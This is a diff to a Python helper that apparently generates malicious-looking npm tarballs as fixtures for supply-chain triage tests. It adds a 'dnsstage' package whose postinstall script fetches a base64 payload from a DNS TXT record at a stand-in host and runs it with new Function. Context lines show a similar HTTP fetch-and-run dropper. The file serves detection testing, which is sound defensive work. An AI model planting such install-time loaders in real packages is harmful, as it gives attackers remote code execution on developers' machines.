@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage OUT.tgz
 
 gyp     fast-crc32c-native: its only code is in binding.gyp, npm's default
         install script (`node-gyp rebuild`, no install or preinstall
@@ -29,6 +29,10 @@ evalstage  color-theme-loader: its postinstall fetches a second stage over
         HTTP and runs it with new Function in its own process (nothing is
         written to disk), as droppers do; the fake network's stub, when
         run, creates the session's canary.
+dnsstage  sdk-version-resolver: its postinstall resolves a TXT record,
+        base64-decodes the joined strings and runs them with new Function
+        (C2 over DNS); the fake DNS's TXT stub, when run, creates the
+        session's canary.
 """
 import io
 import json
@@ -108,6 +112,15 @@ PACKAGES = {
             "  let b = ''; r.on('data', d => b += d);\n"
             "  r.on('end', () => { try { new Function(b)(); } catch (e) {} });\n"
             "}).on('error', () => {});\n", 0o644),
+    }),
+    "dnsstage": npm_pkg({"name": "sdk-version-resolver", "version": "0.3.1",
+                         "scripts": {"postinstall": "node resolve.js"}}, {
+        "resolve.js": (
+            "require('dns').resolveTxt('cfg.sdk-status.test', (e, r) => {\n"
+            "  if (e || !r) return;\n"
+            "  const s = Buffer.from(r.map(x => x.join('')).join(''), 'base64').toString();\n"
+            "  try { new Function('require', 'process', s)(require, process); } catch (x) {}\n"
+            "});\n", 0o644),
     }),
     "server": npm_pkg({"name": "tiny-dev-server", "version": "0.2.0",
                        "bin": {"tiny-dev-server": "cli.js"}}, {
